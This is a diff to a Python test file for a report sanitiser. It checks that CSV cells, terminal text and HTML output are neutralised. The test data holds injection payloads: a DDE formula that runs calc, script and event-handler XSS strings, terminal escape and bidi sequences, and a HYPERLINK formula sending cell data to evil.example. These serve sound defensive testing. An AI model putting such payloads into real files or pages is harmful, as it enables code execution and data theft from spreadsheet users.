@@ -40,6 +40,7 @@ HOSTILE = [
     ("+cmd|' /C calc'!A0", f"https://example.org/x'><script>{PWN}</script>"),
     ("a | b *bold* _it_ `code` ~~gone~~ $x$", f"vbscript:{PWN}"),
     ("\x1b[2J\x1b]0;owned\x07Terminal\u202egnp.exe", "https://example.org/issues/7"),
+    ('x;=HYPERLINK("https://evil.example/?"&A1,"open")', "https://example.org/issues/8"),
 ]
 HOSTILE_PROJECT = f'evil/<img src=x onerror="{PWN}">'
 HOSTILE_EVIDENCE = f"-2+3 <script>{PWN}</script> [x](javascript:{PWN}) <svg onload={PWN}>"
@@ -132,7 +133,9 @@ def test_terminal_text_loses_escape_sequences_controls_and_bidi_overrides():
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
 def test_csv_cells_that_a_spreadsheet_would_run_become_text(cell):
-    assert inert.csv_cell(cell) == "'" + cell
+    out = inert.csv_cell(cell)
+    assert out.startswith("'") and out.replace("'", "") == cell  # only quote marks added
+    assert not re.search("[;\t][=+@-]", out)  # nor after a tab, where a tab-splitting spreadsheet starts a cell
     assert inert.csv_cell("safe =1") == "safe =1" and inert.csv_cell(-1.5) == -1.5
 
 
@@ -202,6 +205,15 @@ def test_csv_report_neutralises_formulas_in_every_text_column():
     assert first["evidence"] == "'" + HOSTILE_EVIDENCE and first["creator_name"].startswith("'=")
     assert first["status"] == "'@SUM(1+1)" and first["triage_feedback_comments"] == "'-1+1"
     assert first["stage1_score"] == "0.9"  # numbers stay numbers
+
+
+def test_csv_cells_are_quoted_so_a_semicolon_splitting_spreadsheet_starts_no_formula():
+    """Spreadsheets in many locales split a .csv on ';': an unquoted 'x;=HYPERLINK(...)' would start a new cell
+    with a formula.  Every cell is quoted, so read with ';' as the delimiter no cell starts with a formula."""
+    text = R.to_csv(hostile_result())
+    assert ";'=HYPERLINK" in text
+    for cell in text.replace("\t", ";").split(";")[1:]:  # what follows each split, as such a spreadsheet sees it
+        assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), cell
 
 
 def test_json_keeps_the_data_and_sarif_messages_are_plain_text():
